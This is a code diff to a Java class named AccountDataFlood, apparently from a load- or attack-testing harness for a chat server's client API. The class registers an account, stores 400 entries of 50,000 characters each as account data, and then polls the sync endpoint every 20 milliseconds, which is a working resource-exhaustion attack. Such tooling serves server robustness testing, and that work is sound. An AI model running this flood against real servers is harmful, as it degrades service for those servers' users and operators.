@@ -1,6 +1,7 @@
 package org.bongsu.attack;
 
 import java.io.IOException;
+import java.time.Duration;
 import org.bongsu.client.Http;
 import org.bongsu.json.Json;
 
@@ -8,8 +9,6 @@ import org.bongsu.json.Json;
 final class AccountDataFlood implements Attack {
   private static final int ENTRIES = 400;
   private static final String VALUE = "x".repeat(50_000);
-
-  private Target.Account attacker = new Target.Account("", "");
 
   @Override
   public String name() {
@@ -22,21 +21,18 @@ final class AccountDataFlood implements Attack {
   }
 
   @Override
-  public void prepare(Target target) throws IOException, InterruptedException {
-    attacker = target.register("hoarder");
+  public Assault prepare(Target target) throws IOException, InterruptedException {
+    Target.Account attacker = target.register("hoarder");
     for (int i = 0; i < ENTRIES; i++) {
       String path =
           "%s/user/%s/account_data/org.example.hoard%d"
               .formatted(Http.CLIENT, Http.encode(attacker.userId()), i);
       target.ask("PUT", path, attacker.token(), Json.object().put("value", VALUE));
     }
-  }
-
-  @Override
-  public void run(Target target) throws IOException, InterruptedException {
-    while (true) {
-      target.ask("GET", Http.CLIENT + "/sync?timeout=0", attacker.token(), null);
-      Thread.sleep(20);
-    }
+    return new RepeatedRequests(
+        target,
+        1,
+        Duration.ofMillis(20),
+        i -> Http.Ask.json("GET", Http.CLIENT + "/sync?timeout=0", attacker.token(), null));
   }
 }
